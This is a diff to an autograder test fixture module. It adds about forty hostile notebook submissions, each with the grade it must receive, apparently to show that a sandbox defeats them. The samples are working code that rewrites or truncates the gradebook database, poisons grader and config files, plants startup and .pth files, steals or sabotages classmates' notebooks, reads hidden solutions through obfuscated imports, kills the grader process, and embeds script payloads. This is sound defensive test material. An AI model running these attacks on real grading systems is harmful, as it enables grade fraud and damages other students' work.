@@ -238,6 +238,348 @@ HARDCODE_BUGGY = """def find_buggy_layers(layers):
 """
 
 
+# --- reaching past the kernel: each needs the sandbox to fail -------------------------------------
+
+#: Where a grading kernel's working folder sits in an unsandboxed course: autograded/<student>/<assignment>.
+FIND_COURSE = """import os, glob
+
+def _course_root():
+    here = os.getcwd()
+    for up in (here, *[os.path.join(here, *['..'] * k) for k in range(1, 5)]):
+        if os.path.exists(os.path.join(up, 'gradebook.db')):
+            return os.path.abspath(up)
+    for top in ('/work', '/tmp', '/home', '/root', '/srv'):
+        for found in glob.glob(os.path.join(top, '**', 'gradebook.db'), recursive=True)[:1]:
+            return os.path.dirname(found)
+    return None
+
+COURSE = _course_root()
+print('course root seen from the kernel:', COURSE)
+"""
+
+
+def _find_file(name):
+    return f"""import glob, os, sys
+
+def _find(name):
+    roots = [os.path.dirname(os.path.dirname(m.__file__)) for m in list(sys.modules.values())
+             if getattr(m, '__file__', None)]
+    for top in [*roots, os.getcwd(), '/work', '/tmp', '/root', '/srv', '/home']:
+        hits = glob.glob(os.path.join(top, '**', name), recursive=True)
+        if hits:
+            return hits[0]
+    return None
+
+TARGET = _find({name!r})
+print('found:', TARGET)
+"""
+
+
+GRADEBOOK_FULL_MARKS = FIND_COURSE + """import sqlite3
+if COURSE:
+    db = sqlite3.connect(os.path.join(COURSE, 'gradebook.db'))
+    db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
+    db.commit()
+"""
+GRADEBOOK_ZERO_OTHERS = FIND_COURSE + """import sqlite3
+if COURSE:
+    db = sqlite3.connect(os.path.join(COURSE, 'gradebook.db'))
+    db.execute("UPDATE grade SET manual_score = 0")
+    db.commit()
+"""
+GRADEBOOK_TRUNCATE = FIND_COURSE + """if COURSE:
+    open(os.path.join(COURSE, 'gradebook.db'), 'w').close()
+"""
+POISON_CHECKS = """import course_checks.core as core
+with open(core.__file__, 'a') as f:
+    f.write('\\nclose = lambda *a, **k: True\\n')
+"""
+POISON_JUDGE = _find_file("judge.py") + """if TARGET:
+    with open(TARGET, 'a') as f:
+        f.write('\\nJudgeChecks.judge = lambda *a, **k: None\\n')
+"""
+POISON_CONFIG = FIND_COURSE + """if COURSE:
+    with open(os.path.join(COURSE, 'nbgrader_config.py'), 'a') as f:
+        f.write('\\nc.Autograde.autograde_preprocessors = []\\n')
+"""
+POISON_HOME_CONFIG = """import os
+folder = os.path.expanduser('~/.jupyter')
+os.makedirs(folder, exist_ok=True)
+with open(os.path.join(folder, 'nbgrader_config.py'), 'w') as f:
+    f.write('c = get_config()\\nc.Autograde.autograde_preprocessors = []\\n')
+"""
+POISON_STARTUP = """import os
+for base in (os.path.expanduser('~/.ipython'), os.environ.get('IPYTHONDIR', '')):
+    if base:
+        folder = os.path.join(base, 'profile_default', 'startup')
+        os.makedirs(folder, exist_ok=True)
+        with open(os.path.join(folder, '00-exit.py'), 'w') as f:
+            f.write('import os\\nos._exit(1)\\n')
+"""
+POISON_PTH = """import site, os
+for folder in site.getsitepackages():
+    with open(os.path.join(folder, 'zz-poison.pth'), 'w') as f:
+        f.write('import os; os._exit(3)\\n')
+"""
+POISON_SOURCE = FIND_COURSE + """if COURSE:
+    for path in glob.glob(os.path.join(COURSE, 'source', '*', '*.ipynb')):
+        open(path, 'w').close()
+"""
+STEAL_CLASSMATE = FIND_COURSE + """import json
+for path in sorted(glob.glob(os.path.join(COURSE or '/nonexistent', 'submitted', '*', '02_softmax', 'softmax.ipynb'))):
+    for cell in json.load(open(path))['cells']:
+        if cell.get('metadata', {}).get('nbgrader', {}).get('grade_id') == 'softmax':
+            exec(''.join(cell['source']))
+"""
+SABOTAGE_CLASSMATE = FIND_COURSE + """import json
+for path in glob.glob(os.path.join(COURSE or '/nonexistent', 'submitted', 'zzz_*', '02_softmax', 'softmax.ipynb')):
+    nb = json.load(open(path))
+    nb['cells'].insert(1, {'cell_type': 'code', 'metadata': {}, 'outputs': [], 'execution_count': None,
+                           'source': 'import solutions_lib'})
+    json.dump(nb, open(path, 'w'))
+"""
+DETACHED = """import pydoc
+pydoc.pipepager('', "setsid sh -c 'while true; do sleep 1; done # nnmarker-detached' > /dev/null 2>&1 &")
+"""
+READ_REFERENCE = _find_file("softmax_family.py") + """if TARGET:
+    print(open(TARGET).read())
+"""
+READ_HIDDEN = FIND_COURSE + """for path in glob.glob(os.path.join(COURSE or '/nonexistent', 'source', '*', '*.ipynb')):
+    print(open(path).read())
+"""
+PICKLE_REFERENCE = """import pickle
+softmax = pickle.loads(b'csolutions_lib.softmax_family\\nsoftmax\\n.')
+"""
+MARSHAL_CODE = """import marshal, types
+code = compile("def softmax(Z):\\n    return __import__('solutions_lib').softmax(Z)\\n", 'x', 'exec')
+blob = marshal.dumps(code)
+exec_ns = {}
+types.FunctionType(marshal.loads(blob), exec_ns)()
+softmax = exec_ns['softmax']
+"""
+PKGUTIL_REFERENCE = """import pkgutil
+
+def softmax(Z):
+    return pkgutil.resolve_name('solutions_lib.softmax_family:softmax')(Z)
+"""
+PYDOC_ROT13 = """import codecs, pydoc
+
+def softmax(Z):
+    return pydoc.locate(codecs.decode('fbyhgvbaf_yvo.fbsgznk_snzvyl.fbsgznk', 'rot13'))(Z)
+"""
+RUNPY_REFERENCE = _find_file("softmax_family.py") + """import runpy
+
+def softmax(Z):
+    return runpy.run_path(TARGET)['softmax'](Z)
+"""
+OS_SYS_MODULES = """import os
+
+def softmax(Z):
+    return os.sys.modules['solutions_lib.softmax_family'].softmax(Z)
+"""
+GETATTR_ALIAS = """from course_checks import check_softmax
+look = getattr
+reference_module = look(check_softmax, '__glo' + 'bals__')
+
+def softmax(Z):
+    return reference_module['ref'].softmax(Z)
+"""
+ATTRGETTER = """import operator
+from course_checks import softmax_family as family
+
+def softmax(Z):
+    return operator.attrgetter('__glo' + 'bals__')(family.judge_softmax)['ref'].softmax(Z)
+"""
+RUN_CELL = """import IPython
+IPython.get_ipython().run_cell('from solutions_lib.softmax_family import softmax')
+"""
+TIME_MAGIC = """%%time
+from solutions_lib.softmax_family import softmax
+"""
+COPY_REFERENCE = _find_file("softmax_family.py") + """import shutil
+if TARGET:
+    shutil.copy(TARGET, 'stolen_softmax.py')
+from stolen_softmax import softmax
+"""
+KILL_GRADER = """import os, signal
+os.kill(os.getppid(), signal.SIGKILL)
+"""
+STOP_GRADER = """import os, signal
+os.kill(os.getppid(), signal.SIGSTOP)
+"""
+SLEEP = "import time\ntime.sleep(12)  # just under the per-cell timeout"
+DAEMON_STDOUT = """import subprocess
+subprocess.Popen(['sh', '-c', 'while true; do echo nnmarker-daemon; sleep 1; done'], start_new_session=True)
+"""
+SCRIPT_OUTPUT = """from IPython.display import HTML, SVG, Javascript, display
+display(HTML('<script>document.title = "nnmarker-pwned"</script><b onmouseover="alert(1)">hi</b>'))
+display(Javascript('document.title = "nnmarker-js"'))
+display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\\'nnmarker-svg\\')"></svg>'))
+"""
+MARKDOWN_OUTPUT = """from IPython.display import Markdown, Latex, display
+display(Markdown('<script>alert("nnmarker-mdout")</script>'))
+display(Latex('$x$<script>alert("nnmarker-latex")</script>'))
+"""
+MARKDOWN_SCRIPT = '<script>alert("nnmarker-md")</script><img src="x" onerror="alert(\'nnmarker-img\')">'
+LOCKED_CELL = {"grade": False, "grade_id": "my_own_cell", "locked": True, "schema_version": 3, "solution": False}
+FAKE_CHECKS = {"__init__.py": "def __getattr__(name):\n    return lambda *a, **k: None\n"}
+FAKE_LAUNCHER = {"__init__.py": "", "sandbox.py": "raise SystemExit('replaced')\n", "kernel.py": "pass\n"}
+FAKE_NUMPY = "raise ImportError('this numpy is a fake')\n"
+LOOPY_MODULE = "def rows(Z, f):\n    return [f(z) for z in Z]\n"
+
+#: Loop-ban evasions (right values): each keeps every point but the vectorized one.
+ROW = "def _row(z):\n    e = np.exp(z - z.max())\n    return e / e.sum()\n\n"
+EVASIONS = {
+    "recursion": ROW + "def softmax(Z):\n    if len(Z) == 0:\n        return np.zeros((0,) + Z.shape[1:])\n"
+                       "    return np.vstack([_row(Z[0])[None, :], softmax(Z[1:])])\n",
+    "reduce_alias": "from functools import reduce as fold\n\n" + ROW +
+                    "def softmax(Z):\n    return fold(lambda acc, z: np.vstack([acc, _row(z)]), Z[1:], _row(Z[0])[None, :])\n",
+    "decoy_rebinding": ROW + "def softmax(Z):\n    return Z\n\n"
+                             "def _looping(Z):\n    return np.array([_row(z) for z in Z])\n\nsoftmax = _looping\n",
+    "lambda_comprehension": ROW + "_rows = lambda Z: np.array([_row(z) for z in Z])\n\n"
+                                  "def softmax(Z):\n    return _rows(Z)\n",
+    "helper_class_method": ROW + "class _Rows:\n    def apply(self, Z):\n        out = np.empty(Z.shape)\n"
+                                 "        for i in range(len(Z)):\n            out[i] = _row(Z[i])\n        return out\n\n"
+                                 "def softmax(Z):\n    return _Rows().apply(Z)\n",
+    "nested_in_if": ROW + "if True:\n    def softmax(Z):\n        out = np.empty(Z.shape)\n"
+                          "        for i in range(len(Z)):\n            out[i] = _row(Z[i])\n        return out\n",
+    "iter_sentinel": ROW + "def softmax(Z):\n    rows = iter(list(Z) + [None])\n"
+                           "    return np.array(list(iter(lambda: _row(r) if (r := next(rows)) is not None else None, None)))\n",
+}
+
+
+def _add_markdown(nb):
+    nb.cells.insert(2, nbformat.v4.new_markdown_cell(MARKDOWN_SCRIPT))
+
+
+def _add_locked_cell(nb):
+    nb.cells.insert(2, nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": dict(LOCKED_CELL)}))
+
+
+def _sleepy(nb):
+    for _ in range(8):
+        insert_after(nb, "imports", SLEEP)
+
+
+def _with_files(files, edit=None, **sources):
+    """A builder: the honest softmax notebook (``sources`` swapped in) plus files handed in beside it."""
+    def build(folder):
+        softmax_notebook(edit, **sources)(folder)
+        for name, text in files.items():
+            path = Path(folder) / SOFTMAX / name
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text)
+    return build
+
+
+def _blank_with_files(files):
+    def build(folder):
+        write(folder, SOFTMAX, submission(Student("x", "", default=BLANK), SOFTMAX))
+        for name, text in files.items():
+            path = Path(folder) / SOFTMAX / name
+            path.parent.mkdir(parents=True, exist_ok=True)
+            path.write_text(text)
+    return build
+
+
+def _free_cell(code, **sources):
+    return softmax_notebook(lambda nb: insert_after(nb, "imports", code), **sources)
+
+
+#: Escapes from the kernel, each tagged with the class of attack it belongs to.
+ESCAPE_CLASSES = ("gradebook", "poison", "classmates", "reference", "handed_in", "grader_process", "script", "loops")
+
+
+def escapes():
+    """Submissions that reach past the kernel; only the sandbox defeats them (the classes in ESCAPE_CLASSES)."""
+    uniform = {"softmax": UNIFORM}
+    entries = [
+        Hostile("aaa_first_honest", "an honest classmate graded first (all answers right)", softmax_notebook()),
+        Hostile("zzz_last_honest", "an honest classmate graded last (all answers right)", softmax_notebook()),
+        Hostile("gradebook_full_marks", "gradebook: sets manual_score = max_score on every row, wrong softmax",
+                _free_cell(GRADEBOOK_FULL_MARKS, **uniform), {"softmax"}),
+        Hostile("gradebook_zero_classmates", "gradebook: sets every classmate's manual_score to 0",
+                _free_cell(GRADEBOOK_ZERO_OTHERS)),
+        Hostile("gradebook_truncate", "gradebook: truncates gradebook.db", _free_cell(GRADEBOOK_TRUNCATE)),
+        Hostile("poison_checks", "poison: appends to the installed grading engine, wrong softmax",
+                _free_cell(POISON_CHECKS, **uniform), {"softmax"}),
+        Hostile("poison_judge", "poison: appends to the grader's judge.py, wrong softmax",
+                _free_cell(POISON_JUDGE, **uniform), {"softmax"}),
+        Hostile("poison_course_config", "poison: appends to the course's nbgrader_config.py",
+                _free_cell(POISON_CONFIG)),
+        Hostile("poison_home_config", "poison: writes ~/.jupyter/nbgrader_config.py", _free_cell(POISON_HOME_CONFIG)),
+        Hostile("poison_ipython_startup", "poison: an IPython startup file that exits every later kernel",
+                _free_cell(POISON_STARTUP)),
+        Hostile("poison_pth", "poison: a .pth file in site-packages that exits every later interpreter",
+                _free_cell(POISON_PTH)),
+        Hostile("poison_source", "poison: blanks the instructor notebooks in source/", _free_cell(POISON_SOURCE)),
+        Hostile("steals_classmate", "classmates: a blank softmax taken from a classmate's submission",
+                _free_cell(STEAL_CLASSMATE, softmax="# YOUR CODE HERE\n"), {"softmax"}),
+        Hostile("sabotages_classmate", "classmates: makes a later classmate's notebook import the reference",
+                _free_cell(SABOTAGE_CLASSMATE)),
+        Hostile("detached_process", "classmates: a setsid process started through pydoc.pipepager, to outlive "
+                "the kernel", _free_cell(DETACHED)),
+        Hostile("reads_reference_file", "reference: prints solutions_lib's source found by open()",
+                _free_cell(READ_REFERENCE)),
+        Hostile("reads_hidden_tests", "reference: prints the instructor notebooks of source/",
+                _free_cell(READ_HIDDEN)),
+        Hostile("pickle_reference", "reference: softmax from pickle.loads of a bytes literal",
+                softmax_notebook(softmax=PICKLE_REFERENCE), {"softmax"}),
+        Hostile("marshal_code", "reference: marshal + types.FunctionType running any code",
+                softmax_notebook(softmax=MARSHAL_CODE), {"softmax"}),
+        Hostile("pkgutil_reference", "reference: pkgutil.resolve_name", softmax_notebook(softmax=PKGUTIL_REFERENCE),
+                {"softmax"}),
+        Hostile("pydoc_rot13", "reference: pydoc.locate of a rot13 name", softmax_notebook(softmax=PYDOC_ROT13),
+                {"softmax"}),
+        Hostile("runpy_reference", "reference: runpy.run_path on the reference file",
+                softmax_notebook(softmax=RUNPY_REFERENCE), {"softmax"}),
+        Hostile("os_sys_modules", "reference: os.sys.modules", softmax_notebook(softmax=OS_SYS_MODULES), {"softmax"}),
+        Hostile("getattr_alias", "reference: getattr bound to another name, a check's __globals__",
+                softmax_notebook(softmax=GETATTR_ALIAS), {"softmax"}),
+        Hostile("attrgetter_globals", "reference: operator.attrgetter('__glo' + 'bals__') on a judge",
+                softmax_notebook(softmax=ATTRGETTER), {"softmax"}),
+        Hostile("ipython_run_cell", "reference: IPython.get_ipython().run_cell",
+                softmax_notebook(softmax=RUN_CELL), {"softmax"}),
+        Hostile("time_cell_magic", "reference: the body of a %%time cell", softmax_notebook(softmax=TIME_MAGIC),
+                {"softmax"}),
+        Hostile("copies_reference_module", "reference: the reference file copied into the kernel's folder",
+                softmax_notebook(softmax=COPY_REFERENCE), {"softmax"}),
+        Hostile("hands_in_fake_packages", "handed in: solutions_lib/ and course_checks/ beside a blank notebook",
+                _blank_with_files({f"{pkg}/{name}": text for pkg in ("solutions_lib", "course_checks")
+                                   for name, text in FAKE_CHECKS.items()}), full=set(), zero=set(SOFTMAX_FUNCTIONS)),
+        Hostile("hands_in_launcher", "handed in: course_grader/ beside the notebook; cross_entropy a memory bomb",
+                _with_files({f"course_grader/{n}": t for n, t in FAKE_LAUNCHER.items()},
+                            cross_entropy="def cross_entropy(Z, Y):\n    blocks = []\n    while True:\n"
+                                          "        blocks.append(np.ones(10**8))\n"), {"cross_entropy"}),
+        Hostile("hands_in_numpy", "handed in: a numpy.py that would shadow NumPy (all answers right)",
+                _with_files({"numpy.py": FAKE_NUMPY})),
+        Hostile("hands_in_loop_module", "handed in: a .py module with the loop, imported by softmax",
+                _with_files({"rowtools.py": LOOPY_MODULE},
+                            softmax="import rowtools\n\ndef softmax(Z):\n    return np.array(rowtools.rows(Z, "
+                                    "lambda z: np.exp(z - z.max()) / np.exp(z - z.max()).sum()))\n"), {"softmax"}),
+        Hostile("kills_grader", "grader: os.kill(os.getppid(), SIGKILL) in a free cell (all answers right)",
+                _free_cell(KILL_GRADER)),
+        Hostile("stops_grader", "grader: os.kill(os.getppid(), SIGSTOP) in a free cell (all answers right)",
+                _free_cell(STOP_GRADER)),
+        Hostile("sleeps_every_cell", "grader: eight free cells that each sleep just under the cell timeout",
+                softmax_notebook(_sleepy), set(SOFTMAX_FUNCTIONS)),
+        Hostile("daemon_keeps_stdout", "grader: a daemon in a new session that keeps writing to stdout",
+                _free_cell(DAEMON_STDOUT)),
+        Hostile("script_outputs", "script: HTML with <script>, JavaScript and SVG with onload as outputs",
+                _free_cell(SCRIPT_OUTPUT)),
+        Hostile("markdown_outputs", "script: Markdown and LaTeX outputs that carry <script>",
+                _free_cell(MARKDOWN_OUTPUT)),
+        Hostile("markdown_script", "script: a markdown cell with <script> and an onerror image",
+                softmax_notebook(_add_markdown)),
+        Hostile("adds_locked_cell", "a student-added cell that declares itself a locked nbgrader cell",
+                softmax_notebook(_add_locked_cell)),
+    ]
+    entries += [Hostile(f"loop_{label}", f"loops: {label.replace('_', ' ')} (right values)",
+                        softmax_notebook(softmax=source), zero_cells={"test_softmax_vectorized"})
+                for label, source in EVASIONS.items()]
+    return entries
+
+
 def corpus():
     """Every hostile submission, each with what grading must give it."""
     entries = [
@@ -344,7 +686,7 @@ def corpus():
                     Student("x", "", {"softmax": REFERENCE, "logsumexp": REFERENCE}, default=BLANK), SOFTMAX)),
                 zero={"log_softmax", "cross_entropy", "cross_entropy_grad"}),
     ]
-    return entries
+    return entries + escapes()
 
 
 def _scratch():
